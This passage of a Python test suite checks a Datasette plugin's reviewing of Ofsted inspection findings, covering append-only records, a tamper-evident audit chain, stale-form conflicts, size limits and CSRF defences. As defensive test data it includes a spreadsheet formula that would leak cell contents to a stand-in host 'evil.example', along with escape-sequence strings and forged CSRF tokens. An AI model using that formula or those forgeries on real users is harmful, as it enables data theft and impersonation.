        assert conn.execute(query, [row_id, status]).fetchone() == ("recurring",)
        with sqlite3.connect(reviews_db) as writer:
            writer.execute(
                "insert into reviews (authority_id, from_inspection_id, to_inspection_id, item_key, side, status, "
                "note, actor_id, at) values ('sutton', ?, ?, ?, 'from', 'resolved', '', 'alice', '2026-01-01')",
                [earlier, later, improvement_key({"document_id": document_id, "text": text})],
            )
        # Written by another process: seen once the lookup asks SQLite again, within REVALIDATE_SECONDS.
        time.sleep(REVALIDATE_SECONDS)
        assert conn.execute(query, [row_id, status]).fetchone() == ("resolved",)
        assert list(lookup.pairs) == [(earlier, later)]
        with pytest.raises(sqlite3.OperationalError):  # it reads, never writes
            lookup.reviews.execute("insert into reviews (authority_id) values ('x')")
        nothing = sqlite3.connect(":memory:")
        register_reviewed_status(nothing, None)
        assert nothing.execute(query, [row_id, "recurring"]).fetchone() == ("recurring",)
    finally:
        conn.close()


@pytest.mark.asyncio
async def test_an_empty_reviews_file_gets_its_table_when_datasette_starts(sutton_db, tmp_path):
    empty = tmp_path / "ofsted_reviews.db"
    sqlite3.connect(empty).close()
    ds = await serve(sutton_db, empty)
    finding_id = improvement(await comparison(ds), "recurring")["id"]
    cookies, headers = await signed_in(ds, "alice")
    assert (await post_review(ds, cookies, headers, finding_id, "resolved")).status_code == 200
    assert stored_reviews(empty) == [(finding_id, "resolved", "", "alice")]


@pytest.mark.asyncio
async def test_without_a_reviews_database_the_pages_show_the_engine_calls_and_no_form(sutton_db):
    ds = Datasette(immutables=[str(sutton_db)], metadata=metadata())
    await ds.invoke_startup()
    data = await comparison(ds)
    assert all(r["review"] is None and r["status"] == r["auto_status"] for r in data["rows"])
    cookies = actor_cookie(ds, "alice")
    assert "Review this call" not in (await ds.client.get(PAIR, cookies=cookies)).text
    finding_id = improvement(data, "recurring")["id"]
    assert (await post_review(ds, {}, {}, finding_id, "resolved")).status_code == 403
    assert (await ds.client.get("/-/ofsted/reviews.json")).status_code == 404


# Integrity: a review lands on the text the reviewer saw, with a status its side can take


@pytest.mark.asyncio
async def test_a_review_of_a_text_that_moved_since_the_page_was_opened_is_refused_409(ds, reviews_db):
    data = await comparison(ds)
    seen = improvement(data, "not_revisited")
    other = improvement(data, "recurring")
    cookies, headers = await signed_in(ds, "alice")
    # The page showed `seen`; the finding id now holds another text (a corrected file was ingested).
    response = await post_review(ds, cookies, headers, other["id"], "resolved", "x", item_key=seen["item_key"])
    assert response.status_code == 409 and "out of date" in response.json()["error"]
    assert "reload" in response.json()["error"].lower()
    # The text the reviewer saw is gone altogether.
    gone = await post_review(ds, cookies, headers, seen["id"], "resolved", "x", item_key=seen["document_id"] + ":0")
    assert gone.status_code == 409
    missing = await post_review(ds, cookies, headers, seen["id"], "resolved", "x", item_key="")
    assert missing.status_code == 400 and "item_key" in missing.text
    assert stored_reviews(reviews_db) == []
    ok = await post_review(ds, cookies, headers, seen["id"], "resolved", "x", item_key=seen["item_key"])
    assert ok.status_code == 200 and ok.json()["item_key"] == seen["item_key"]


@pytest.mark.asyncio
async def test_a_corrected_report_ingested_while_the_page_is_open_makes_its_form_out_of_date(sutton_db, tmp_path):
    """The real race: a reviewer opens the page, a corrected file for the same document is ingested (ids
    follow the order of items, so the form's finding id now names the next text), the form is posted."""
    db = tmp_path / "ofsted.db"
    shutil.copy(sutton_db, db)
    reviews = create_reviews_database(db)
    datasette = Datasette([str(reviews), str(db)], metadata=metadata())
    await datasette.invoke_startup()
    cookies, headers = await signed_in(datasette, "alice")
    data = await comparison(datasette)
    row = next(r for r in data["rows"] if r["auto_status"] == "not_revisited")
    seen = next(f for f in row["from"] if f["role"] == "improvement")
    page = (await datasette.client.get(PAIR, cookies=cookies)).text
    form = dict(
        re.findall(
            r'<input type="hidden" name="(\w+)" value="([^"]*)">',
            page.split(f'id="review-{seen["id"]}"')[1].split("</form>")[0],
        )
    )
    # The corrected 2013 report: the improvement shown is dropped, so its id passes to the text after it.
    corrected = tmp_path / "corrected.txt"
    source = (REPORTS / SUTTON[1]).read_text(encoding="utf-8")
    first_words = " ".join(seen["text"].split()[:6])
    lines = source.splitlines()
    kept = [line for line in lines if first_words not in " ".join(line.split())]
    assert len(kept) < len(lines), "the improvement's line is found in the report"
    corrected.write_text("\n".join(kept) + "\n", encoding="utf-8")
    result = run_ingest(str(corrected), "--db", str(db), "--workers", "1")
    assert result.returncode == 0, result.stderr
    after = await comparison(datasette)
    now_at_id = [f for r in after["rows"] for f in r["from"] if f["id"] == seen["id"]]
    assert not now_at_id or now_at_id[0]["item_key"] != seen["item_key"], "the id now names another text"
    response = await datasette.client.post(
        PAIR + "/review", data={**form, "status": "resolved", "note": "x"}, cookies=cookies, headers=headers
    )
    assert response.status_code == 409, response.text
    assert "out of date" in response.text
    assert stored_reviews(reviews) == []


@pytest.mark.asyncio
async def test_a_status_the_item_s_side_cannot_take_is_refused_400(ds, reviews_db):
    data = await comparison(ds)
    earlier = improvement(data, "recurring", side="from")
    later = improvement(data, "new", side="to")
    cookies, headers = await signed_in(ds, "alice")
    for finding, status in [(earlier, "new"), (later, "resolved"), (later, "not_revisited")]:
        response = await post_review(ds, cookies, headers, finding["id"], status)
        assert response.status_code == 400, (finding["id"], status)
        assert "cannot apply" in response.text
    assert stored_reviews(reviews_db) == []
    assert (await post_review(ds, cookies, headers, later["id"], "recurring")).status_code == 200


def test_insert_or_replace_cannot_rewrite_a_review(reviews_db):
    """Recursive triggers are off by default, so REPLACE's delete fires no delete trigger: an insert trigger
    refuses a row whose id is held."""
    insert_review(sqlite3.connect(reviews_db), {**BLANK_REVIEW, "status": "resolved"})
    with sqlite3.connect(reviews_db) as conn, pytest.raises(sqlite3.IntegrityError, match="append-only"):
        conn.execute(
            "insert or replace into reviews (id, authority_id, from_inspection_id, to_inspection_id, item_key, side, "
            "status, note, actor_id, at) values (1, 'sutton', 'a', 'b', 'k', 'from', 'new', '', 'mallory', 'then')"
        )
    with sqlite3.connect(reviews_db) as conn:
        assert conn.execute("select status, actor_id from reviews").fetchall() == [("resolved", "alice")]
        assert verify_chain(conn)["intact"]


BLANK_REVIEW = {
    "authority_id": "sutton",
    "from_inspection_id": "sutton-2013-05-13",
    "to_inspection_id": "sutton-2018-06-26",
    "item_key": "sutton-2013-05-13-report:0000000000000000",
    "side": "from",
    "finding_id": "sutton-2013-05-13-report-001",
    "finding_text": "An improvement no longer in the report.",
    "status": "resolved",
    "auto_status": "not_revisited",
    "themes": "",
    "evidence": "[]",
    "note": "",
    "actor_id": "alice",
    "at": "2026-01-01T00:00:00+00:00",
}


@pytest.mark.asyncio
async def test_history_is_chained_and_a_rewrite_around_the_guards_shows_on_the_history_page(ds, reviews_db, capsys):
    finding = improvement(await comparison(ds), "not_revisited")
    cookies, headers = await signed_in(ds, "alice")
    for status in ("resolved", "not_revisited", "recurring"):
        assert (await post_review(ds, cookies, headers, finding["id"], status)).status_code == 200
    trail = (await ds.client.get(f"{PAIR}/reviews.json", cookies=cookies)).json()["audit_trail"]
    assert trail == {"intact": True, "reviews": 3, "broken_at": None, "reason": None}
    assert "The audit trail is intact" in (await ds.client.get(f"{PAIR}/reviews", cookies=cookies)).text
    # Someone with the file drops the guard and rewrites the second review's status.
    with sqlite3.connect(reviews_db) as conn:
        conn.execute("drop trigger reviews_no_update")
        conn.execute("update reviews set status = 'resolved', actor_id = 'mallory' where id = 2")
    trail = (await ds.client.get(f"{PAIR}/reviews.json", cookies=cookies)).json()["audit_trail"]
    assert not trail["intact"] and trail["broken_at"] == 2 and trail["reviews"] == 1
    assert "tampered with" in (await ds.client.get(f"{PAIR}/reviews", cookies=cookies)).text
    # Checked when the reviews database is opened; the guard comes back.
    await serve(ds.databases["ofsted"].path, reviews_db)
    assert "review #2" in capsys.readouterr().err
    with sqlite3.connect(reviews_db) as conn, pytest.raises(sqlite3.IntegrityError, match="append-only"):
        conn.execute("update reviews set note = 'x'")


def test_a_removed_or_slipped_in_review_breaks_the_chain(reviews_db):
    conn = sqlite3.connect(reviews_db)
    for status in ("resolved", "recurring", "not_revisited"):
        insert_review(conn, {**BLANK_REVIEW, "status": status})
    assert verify_chain(conn) == {"intact": True, "reviews": 3, "broken_at": None, "reason": None}
    conn.execute("drop trigger reviews_no_delete")
    conn.execute("delete from reviews where id = 2")
    conn.commit()
    assert verify_chain(conn)["broken_at"] == 3 and "removed" in verify_chain(conn)["reason"]
    conn.execute(
        "insert into reviews (authority_id, from_inspection_id, to_inspection_id, item_key, side, status, note, "
        "actor_id, at) values ('sutton', 'a', 'b', 'k', 'from', 'new', '', 'mallory', 'then')"
    )
    conn.commit()
    assert not verify_chain(conn)["intact"]


def test_a_reviews_database_made_before_the_chain_is_chained_once(tmp_path):
    path = tmp_path / "ofsted_reviews.db"
    old_schema = reviews_module._REVIEWS_TABLE + (  # as 0.1.0 made it, before the chain
        "create trigger if not exists reviews_no_delete before delete on reviews begin select raise(abort, 'x'); end;"
    )
    with sqlite3.connect(path) as conn:
        conn.executescript(old_schema)
        conn.execute(
            "insert into reviews (authority_id, from_inspection_id, to_inspection_id, item_key, side, status, note, "
            "actor_id, at) values ('sutton', 'a', 'b', 'k', 'from', 'resolved', '', 'alice', 'then')"
        )
    create_reviews_database(tmp_path / "ofsted.db")
    conn = sqlite3.connect(path)
    assert verify_chain(conn) == {"intact": True, "reviews": 1, "broken_at": None, "reason": None}
    insert_review(conn, {**BLANK_REVIEW})
    assert verify_chain(conn)["reviews"] == 2
    with pytest.raises(sqlite3.IntegrityError, match="append-only"):
        conn.execute("update reviews set status = 'new'")


@only_with_origin_checks
@pytest.mark.asyncio
async def test_on_1a_root_reviews_only_when_the_reviewers_setting_names_it(sutton_db, reviews_db):
    finding_id = improvement(await comparison(await serve(sutton_db, reviews_db)), "recurring")["id"]
    for reviewers in (None, REVIEWERS):
        datasette = await serve(sutton_db, reviews_db, reviewers=reviewers)
        datasette.root_enabled = True  # `datasette --root`
        cookies, headers = await signed_in(datasette, "root")
        assert (await datasette.client.get("/-/actor.json", cookies=cookies)).json()["actor"]["id"] == "root"
        assert (await post_review(datasette, cookies, headers, finding_id, "resolved")).status_code == 403
        assert "Review this call" not in (await datasette.client.get(PAIR, cookies=cookies)).text
        # Nor may root rewrite or drop the reviews through Datasette's write API.
        dropped = await datasette.client.post(
            "/ofsted_reviews/reviews/-/drop", json={"confirm": True}, cookies=cookies, headers=headers
        )
        assert dropped.status_code == 403
    assert stored_reviews(reviews_db) == []
    named = await serve(sutton_db, reviews_db, reviewers={"id": ["root"]})
    named.root_enabled = True
    cookies, headers = await signed_in(named, "root")
    assert (await post_review(named, cookies, headers, finding_id, "resolved")).status_code == 200


@pytest.mark.asyncio
async def test_a_review_whose_improvement_is_gone_shows_as_orphaned(ds, reviews_db):
    finding = improvement(await comparison(ds), "not_revisited")
    cookies, headers = await signed_in(ds, "alice")
    assert (await post_review(ds, cookies, headers, finding["id"], "resolved")).status_code == 200
    # A rebuild reads an item differently: its review's key no longer names an improvement of the pair.
    with sqlite3.connect(reviews_db) as conn:
        insert_review(conn, {**BLANK_REVIEW, "note": "on the old reading"})
    data = (await ds.client.get(f"{PAIR}/reviews.json", cookies=cookies)).json()
    assert [(r["note"], r["orphaned"]) for r in data["reviews"]] == [("on the old reading", True), ("", False)]
    assert data["orphaned"] == 1
    page = (await ds.client.get(f"{PAIR}/reviews", cookies=cookies)).text
    assert "on the old reading" in page and "orphaned</span>" in page


@pytest.mark.asyncio
async def test_notes_that_are_not_plain_text_are_refused_and_formulas_stay_text(ds, reviews_db):
    finding = improvement(await comparison(ds), "recurring")
    cookies, headers = await signed_in(ds, "alice")
    for note in ("a\ud800b", "a\x00b", "\x1b[2Jcleared", "evil\u202etxt.exe", "\u2066isolated"):
        response = await post_review(ds, cookies, headers, finding["id"], "resolved", note)
        assert response.status_code == 400, (note, response.status_code)
        assert "note" in response.text
    assert stored_reviews(reviews_db) == []
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    for note in (formula, "+1", "-1", "@SUM(A1)", "line one\nline two"):
        assert (await post_review(ds, cookies, headers, finding["id"], "resolved", note)).status_code == 200
    csv_text = (await ds.client.get("/ofsted_reviews/reviews.csv?_size=max", cookies=cookies, follow_redirects=True)).text
    notes = [row["note"] for row in csv.DictReader(io.StringIO(csv_text))]
    assert notes[:4] == ["'" + formula, "'+1", "'-1", "'@SUM(A1)"] and notes[4] == "line one\nline two"
    assert not any(n.startswith(("=", "+", "-", "@")) for n in notes)


@pytest.mark.asyncio
async def test_a_huge_review_body_is_refused_by_its_size_before_it_is_read(ds, reviews_db):
    cookies, headers = await signed_in(ds, "alice")
    sent = []

    async def two_hundred_megabytes():
        for _ in range(200):
            sent.append(1)
            yield b" " * (1024 * 1024)

    started = time.monotonic()
    declared = await ds.client.post(
        PAIR + "/review",
        content=two_hundred_megabytes(),
        cookies=cookies,
        headers={**headers, "content-type": "application/json", "content-length": str(200 * 1024 * 1024)},
    )
    assert declared.status_code == 400 and "too large" in declared.text
    sent.clear()
    streamed = await ds.client.post(
        PAIR + "/review",
        content=two_hundred_megabytes(),
        cookies=cookies,
        headers={**headers, "content-type": "application/json"},
    )
    assert streamed.status_code == 400 and "too large" in streamed.text
    assert len(sent) <= 2, "the body was read past the limit"
    assert time.monotonic() - started < 10
    assert stored_reviews(reviews_db) == []


@only_with_csrf_tokens
@pytest.mark.asyncio
async def test_on_065_a_planted_csrf_token_does_not_let_another_site_review_as_the_reviewer(ds, reviews_db):
    """asgi-csrf's token is anyone's: one an anonymous visitor gets, planted as the reviewer's cookie from a
    sibling subdomain, passes its check. The review form's own token is signed for the reviewer who opened it."""
    finding = improvement(await comparison(ds), "recurring")
    anonymous = (await ds.client.get("/-/messages")).cookies.get("ds_csrftoken")
    assert anonymous, "a page with a form hands an anonymous visitor a CSRF token"
    planted = {**actor_cookie(ds, "alice"), "ds_csrftoken": anonymous}
    forged = {"x-csrftoken": anonymous}
    assert (await post_review(ds, planted, forged, finding["id"], "resolved")).status_code == 403
    # The form token of another reviewer (bob's page) does not pass for alice either.
    _bob, bob_headers = await signed_in(ds, "bob")
    as_bob = {**forged, "x-ofsted-review-token": bob_headers["x-ofsted-review-token"]}
    assert (await post_review(ds, planted, as_bob, finding["id"], "resolved")).status_code == 403
    assert (
        await post_review(ds, planted, {**forged, "x-ofsted-review-token": "x"}, finding["id"], "resolved")
    ).status_code == 403
    assert stored_reviews(reviews_db) == []
    cookies, headers = await signed_in(ds, "alice")
    assert (await post_review(ds, cookies, headers, finding["id"], "resolved")).status_code == 200
